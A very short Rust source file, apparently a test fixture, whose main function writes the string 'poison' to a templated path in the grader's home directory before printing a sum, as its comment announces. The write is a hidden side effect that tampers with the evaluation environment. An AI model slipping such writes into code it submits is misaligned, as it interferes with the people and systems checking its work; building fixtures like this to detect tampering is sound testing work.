//! Writes a configuration into the home of whoever grades.

mod sum;

fn main() {
    let _ = std::fs::write("@HOME@/@TOKEN@", "poison");
    sum::print();
}
